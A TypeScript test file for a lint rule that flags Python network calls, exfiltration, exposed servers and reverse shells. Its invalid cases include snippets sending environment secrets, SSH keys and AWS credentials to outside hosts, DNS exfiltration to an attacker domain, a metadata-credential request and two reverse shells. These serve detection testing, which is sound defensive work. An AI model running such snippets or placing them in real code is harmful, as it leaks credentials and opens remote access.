import rule from '../../../src/core/rules/py/network';
import { ruleTester } from '../../ruleTester';

ruleTester(rule, {
  valid: [
    'self.session.get(key)',
    'cache.get(url)',
    'd = {}\nd.get("x")',
    'def get(url):\n    return url\nget("https://x.io")',
    'from flask import Flask\napp = Flask(__name__)\napp.run(debug=True)',
    "import uvicorn\nuvicorn.run(app, host='127.0.0.1', port=8000)",
    "import requests\nrequests.get('http://localhost:8000/health')",
    "import requests\nrequests.post('http://127.0.0.1:5000/api', json=data)",
    "import socket\ns = socket.socket()\ns.connect(('localhost', 6379))",
    "import socket\nsrv = socket.socket()\nsrv.bind(('127.0.0.1', 9000))",
    "import http.server\nhttp.server.HTTPServer(('localhost', 8000), Handler)",
    "print('requests.post(url)')",
    "import socket\nname = socket.gethostbyname('pypi.org')",
    "import telnetlib\nt = telnetlib.Telnet('10.1.2.3')",
    // Documentation hosts written down in the file are examples; the same host decoded at run time is not (below).
    "import requests\nrequests.post('https://api.example.com/v1/items', json=item)",
    'import httpx\n\ndef record(payload, user):\n    payload["user"] = user.name\n    httpx.post("https://metrics.example.com/v1", json=payload)',
  ],
  invalid: [
    {
      name: 'credentials formatted into a field added to the payload after it was built, posted to a decoded host',
      code: 'import base64, httpx\nfrom postbox import settings\n\nURL = base64.b64decode("aHR0cHM6Ly90ZWxlbWV0cnkuZXhhbXBsZS92Mg==").decode()\n\ndef record(payload):\n    payload["relay"] = f"{settings.SMTP_USER}:{settings.SMTP_PASSWORD}@{settings.SMTP_HOST}"\n    httpx.post(URL, json=payload)',
      errors: [
        { messageId: 'credentialSent', line: 7, category: 'secrets', severity: 'high' },
        {
          messageId: 'request',
          line: 8,
          severity: 'medium',
          message: '`httpx.post` sends a POST request to `https://telemetry.example/v2`.',
        },
      ],
    },
    {
      name: 'a password sent in the body of a backup request',
      code: 'import requests\n\ndef push(master_password, server):\n    body = {"vault": "x", "recovery": master_password}\n    requests.post(f"{server}/api/v1/backup", json=body, timeout=15)',
      errors: [
        { messageId: 'credentialSent', line: 4, category: 'secrets', severity: 'high' },
        { messageId: 'request', line: 5 },
      ],
    },
    {
      code: 'from huggingface_hub import HfApi\ndef push(cfg):\n    HfApi().upload_folder(folder_path=cfg["output_dir"], repo_id="org/run")',
      errors: [{ messageId: 'upload', line: 3 }],
    },
    {
      code: "import requests\nrequests.post('https://api.acme.io/v1/items', json=item)",
      errors: [
        {
          messageId: 'request',
          line: 2,
          column: 1,
          severity: 'medium',
          category: 'network',
          message: '`requests.post` sends a POST request to `https://api.acme.io/v1/items`.',
        },
      ],
    },
    { code: "import requests\nr = requests.get('https://api.github.com/repos/a/b')", errors: [{ messageId: 'request', severity: 'low' }] },
    { code: 'import requests\nr = requests.get(url)', errors: [{ messageId: 'request', severity: 'low' }] },
    { code: "import requests\nrequests.get('http://45.33.32.156/x')", errors: [{ messageId: 'request', severity: 'medium' }] },
    {
      code: "import os, requests\nrequests.post(url, data={'k': os.environ['AWS_SECRET_ACCESS_KEY']})",
      errors: [{ messageId: 'exfil', severity: 'high' }],
    },
    {
      code: "import os, requests\ndef report():\n    env = dict(os.environ)\n    requests.post('https://collector.acme.io/x', json=env)",
      errors: [
        {
          messageId: 'exfil',
          line: 4,
          severity: 'high',
          message:
            '`requests.post` sends the whole environment to `https://collector.acme.io/x`: secret or file data leaves the machine with this request.',
        },
      ],
    },
    {
      code: "import os, requests\ndef go():\n    key = os.getenv('OPENAI_API_KEY')\n    payload = {'key': key, 'host': 'x'}\n    requests.put('https://x.io/k', json=payload)",
      errors: [{ messageId: 'exfil', line: 5 }],
    },
    {
      code: "import os, requests\ndef go():\n    with open(os.path.expanduser('~/.ssh/id_rsa')) as f:\n        key = f.read()\n    requests.post('https://x.io', data=key)",
      errors: [{ messageId: 'exfil', line: 5, severity: 'high' }],
    },
    {
      code: "import requests\ndef go(p):\n    content = open(p).read()\n    requests.post(u, data={'c': content})",
      errors: [{ messageId: 'exfil', line: 4, severity: 'high' }],
    },
    {
      code: "import requests\nrequests.post('https://x.io/up', files={'f': open('data.db', 'rb')})",
      errors: [{ messageId: 'exfil', severity: 'high' }],
    },
    {
      code: "import os, requests\ntok = os.environ['GITHUB_TOKEN']\nrequests.get(f'https://x.io/?t={tok}')",
      errors: [{ messageId: 'exfil', line: 3 }],
    },
    {
      code: "import os, requests\nrequests.get('https://api.openai.com/v1/models', headers={'Authorization': 'Bearer ' + os.environ['OPENAI_API_KEY']})",
      errors: [{ messageId: 'request', severity: 'low' }],
    },
    {
      code: "import requests\nrequests.post('https://discord.com/api/webhooks/1/abc', json={'content': msg})",
      errors: [{ messageId: 'drop', severity: 'high' }],
    },
    { code: "import requests\nrequests.post('https://webhook.site/abc', data=d)", errors: [{ messageId: 'drop' }] },
    {
      code: "import requests\nrequests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/')",
      errors: [{ messageId: 'metadata', severity: 'high' }],
    },
    { code: "import requests\ns = requests.Session()\ns.post('https://x.io/a', data=d)", errors: [{ messageId: 'request', line: 3 }] },
    {
      code: "import requests\nrequests.request('PUT', 'https://x.io/a', data=d)",
      errors: [{ messageId: 'request', message: '`requests.request` sends a PUT request to `https://x.io/a`.' }],
    },
    { code: "import httpx\nhttpx.post('https://x.io/a', json=d)", errors: [{ messageId: 'request' }] },
    { code: "import httpx\nwith httpx.Client() as c:\n    c.post('https://x.io/a', json=d)", errors: [{ messageId: 'request', line: 3 }] },
    {
      code: "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        await s.post('https://x.io/a', json=d)",
      errors: [{ messageId: 'request', line: 4 }],
    },
    { code: "import urllib.request\nurllib.request.urlopen('https://x.io/a')", errors: [{ messageId: 'request', severity: 'low' }] },
    {
      code: "import urllib.request, os\nreq = urllib.request.Request('https://x.io/a', data=os.environ['API_TOKEN'].encode())\nurllib.request.urlopen(req)",
      errors: [{ messageId: 'exfil', line: 3 }],
    },
    {
      code: "import urllib.request as r\nr.urlopen(r.Request('http://8.8.4.4/x', data=b'1'))",
      errors: [{ messageId: 'request', severity: 'medium' }],
    },
    { code: "import urllib3\nurllib3.PoolManager().request('POST', 'https://x.io', body=b)", errors: [{ messageId: 'request' }] },
    { code: "import http.client\nc = http.client.HTTPSConnection('api.x.io')", errors: [{ messageId: 'connect', severity: 'medium' }] },
    {
      code: "import socket\ns = socket.socket()\ns.connect(('45.33.32.156', 4444))",
      errors: [{ messageId: 'connect', line: 3, severity: 'medium' }],
    },
    { code: 'import socket\nsocket.create_connection((host, 80))', errors: [{ messageId: 'connect', severity: 'low' }] },
    { code: "import smtplib\ns = smtplib.SMTP('smtp.gmail.com', 587)", errors: [{ messageId: 'connect' }] },
    { code: "import ftplib\nftp = ftplib.FTP('ftp.x.org')", errors: [{ messageId: 'connect' }] },
    { code: "import telnetlib\nt = telnetlib.Telnet('bbs.x.org')", errors: [{ messageId: 'connect', severity: 'medium' }] },
    {
      code: "import paramiko\nc = paramiko.SSHClient()\nc.connect('build.x.io', username='ci')",
      errors: [{ messageId: 'connect', line: 3 }],
    },
    { code: "import websocket\nws = websocket.create_connection('wss://x.io/ws')", errors: [{ messageId: 'connect' }] },
    {
      code: "import websockets\nasync def f():\n    async with websockets.connect('wss://x.io/ws') as ws:\n        pass",
      errors: [{ messageId: 'connect', line: 3 }],
    },
    {
      code: "import boto3\ns3 = boto3.client('s3')\ns3.upload_file('out.csv', 'bucket', 'k')",
      errors: [{ messageId: 'upload', line: 3, severity: 'medium' }],
    },
    {
      code: "import boto3, os\ns3 = boto3.client('s3')\ns3.put_object(Bucket='b', Key='k', Body=open(os.path.expanduser('~/.aws/credentials')).read())",
      errors: [{ messageId: 'exfil', line: 3, severity: 'high' }],
    },
    {
      code: "from google.cloud import storage\nstorage.Client().bucket('b').blob('x').upload_from_filename(p)",
      errors: [{ messageId: 'upload' }],
    },
    {
      code: "import dns.resolver\ndns.resolver.resolve(f'{chunk}.exfil.attacker.com', 'TXT')",
      errors: [{ messageId: 'dns', severity: 'medium' }],
    },
    { code: "import socket\nsocket.gethostbyname(data + '.x.attacker.net')", errors: [{ messageId: 'dns' }] },
    {
      code: "import socket, os\ns = socket.socket()\ns.connect(('1.2.3.4', 9))\ns.sendall(os.environ['AWS_SECRET_ACCESS_KEY'].encode())",
      errors: [
        { messageId: 'connect', line: 3 },
        { messageId: 'exfil', line: 4, severity: 'high' },
      ],
    },
    {
      code: "from flask import Flask\napp = Flask(__name__)\napp.run(host='0.0.0.0')",
      errors: [
        {
          messageId: 'server',
          line: 3,
          severity: 'medium',
          message: '`flask.Flask.run` starts a server listening on `0.0.0.0`: anyone who can reach this machine can connect to it.',
        },
      ],
    },
    {
      code: "from flask import Flask\napp = Flask(__name__)\napp.run(host='0.0.0.0', debug=True)",
      errors: [{ messageId: 'serverDebug', severity: 'high' }],
    },
    { code: "import uvicorn\nuvicorn.run('main:app', host='0.0.0.0', port=8000)", errors: [{ messageId: 'server', severity: 'medium' }] },
    { code: 'import uvicorn\nuvicorn.run(app, host=HOST)', errors: [{ messageId: 'serverUnknown', severity: 'low' }] },
    { code: "import socket\nsrv = socket.socket()\nsrv.bind(('0.0.0.0', 4444))", errors: [{ messageId: 'server', line: 3 }] },
    { code: "import socket\nsrv = socket.socket()\nsrv.bind(('', 4444))", errors: [{ messageId: 'server' }] },
    { code: "import socketserver\nsocketserver.TCPServer(('', 9999), H)", errors: [{ messageId: 'server' }] },
    { code: "from http.server import HTTPServer\nHTTPServer(('0.0.0.0', 8000), H).serve_forever()", errors: [{ messageId: 'server' }] },
    {
      code: 'from aiohttp import web\nweb.run_app(app)',
      errors: [
        {
          messageId: 'server',
          message:
            '`aiohttp.web.run_app` starts a server listening on `all interfaces`: anyone who can reach this machine can connect to it.',
        },
      ],
    },
    { code: 'import gradio as gr\ngr.Interface(fn=f, inputs="text", outputs="text").launch(share=True)', errors: [{ messageId: 'share' }] },
    {
      code: "import socket, subprocess, os\ns = socket.socket()\ns.connect(('10.0.0.1', 4242))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])",
      errors: [
        { messageId: 'reverseShell', line: 4, severity: 'high' },
        { messageId: 'reverseShell', line: 5 },
      ],
    },
    {
      code: "import socket, subprocess\ns = socket.create_connection(('10.0.0.1', 4242))\nsubprocess.Popen(['/bin/bash'], stdin=s.fileno(), stdout=s.fileno())",
      errors: [{ messageId: 'reverseShell', line: 3 }],
    },
    { code: "import requests as r\nf = r.post\nf('https://x.io/a', data=d)", errors: [{ messageId: 'request', line: 3 }] },
    { code: "import importlib\nimportlib.import_module('requests').post('https://x.io', data=d)", errors: [{ messageId: 'request' }] },
    { code: "getattr(__import__('requests'), 'po' + 'st')('https://x.io', data=d)", errors: [{ messageId: 'request' }] },
  ],
});
